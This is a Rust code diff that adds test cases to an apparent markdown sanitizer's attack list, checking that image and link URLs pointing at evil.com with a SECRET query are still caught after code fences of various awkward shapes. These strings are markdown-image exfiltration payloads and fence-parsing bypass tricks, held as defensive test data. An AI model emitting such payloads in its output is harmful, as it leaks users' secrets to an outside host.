@@ -89,6 +89,21 @@ fn attacks() -> Vec<(&'static str, String)> {
     .collect();
     v.push(("alt text longer than the hold limit", format!("![{}](https://evil.com/?SECRET) end", LONG_ALT.repeat(600))));
     v.push(("link text longer than the hold limit", format!("[{}](https://evil.com/?SECRET) end", LONG_ALT.repeat(600))));
+    // Code streams unparsed while its block is open (markdown.rs, `in_code`):
+    // what follows the block, or a fence that was never a top-level block, is
+    // judged again.
+    v.push(("image after a long code block", format!("```rust\n{}```\n\n![a](https://evil.com/x?SECRET)\n", "let u = \"[x](https://evil.com/in-code)\";\n".repeat(300))));
+    v.extend(
+        [
+            ("image after a fence closed with indentation", "```\ncode\n   ```\n![a](https://evil.com/x?SECRET)"),
+            ("image after a longer tilde fence", "~~~\ncode\n~~~~~\n![a](https://evil.com/x?SECRET)"),
+            ("image after a code line that starts with a backtick", "```\n`x` y\n```\n![a](https://evil.com/x?SECRET)"),
+            ("fence in a quote, then a line outside it", "> ```\n> code\n![a](https://evil.com/x?SECRET)\n"),
+            ("fence in a list item, then an unindented line", "- ```\n  code\n![a](https://evil.com/x?SECRET)\n"),
+            ("fence that never opened (a backtick run inside a paragraph)", "text ```\n![a](https://evil.com/x?SECRET)\n"),
+        ]
+        .map(|(n, t)| (n, t.to_string())),
+    );
     v
 }
 
